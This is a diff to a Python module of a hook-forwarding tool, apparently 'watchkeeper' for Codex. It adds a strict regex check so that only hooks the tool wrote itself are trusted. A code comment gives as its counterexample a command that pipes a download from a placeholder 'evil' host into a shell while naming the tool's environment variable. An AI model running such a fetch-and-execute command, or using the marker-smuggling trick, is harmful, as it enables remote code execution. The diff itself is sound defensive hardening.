@@ -24,6 +24,7 @@ replies differ, as measured on the real 0.171.0:
 from __future__ import annotations
 
 import json
+import re
 import shutil
 import sys
 from typing import Any
@@ -163,8 +164,22 @@ def forwarder(hook_file_default: str, timeout: float, fail_closed: bool,
 
 
 def is_ours(hook: Any) -> bool:
-    """A hook entry watchkeeper wrote: a command hook reading watchkeeper's request file."""
+    """A hook entry watchkeeper wrote: a command hook reading watchkeeper's request file (to replace or remove;
+    what is trusted must be :func:`is_forwarder` as well)."""
     return isinstance(hook, dict) and hook.get("type") == "command" and ENV_HOOK_FILE in str(hook.get("command"))
+
+
+#: Exactly what :func:`forwarder` writes, and nothing around it: a command that merely names the request file
+#: (``curl evil | sh # $WATCHKEEPER_CODEX_HOOK``) is not one.
+_FORWARDER = re.compile(
+    r'(?:curl -sS --fail-with-body --max-time \d+ -K |"[^"$`\\]*" -m watchkeeper\.adapters\.codex\.forward \d+ )'
+    rf'"\$\{{{ENV_HOOK_FILE}:-[^"$`\\]*\}}"(?: --data-binary @-)?'
+    r"(?: \|\| \{ echo 'watchkeeper is unreachable: denied \(fail-closed\)' >&2; exit 2; \})?")
+
+
+def is_forwarder(command: Any) -> bool:
+    """``command`` is one :func:`forwarder` wrote, whole: the only kind of hook watchkeeper asks Codex to trust."""
+    return isinstance(command, str) and _FORWARDER.fullmatch(command) is not None
 
 
 def steering_hooks(hook_file_default: str, hold_timeout: float, fail_closed: bool,
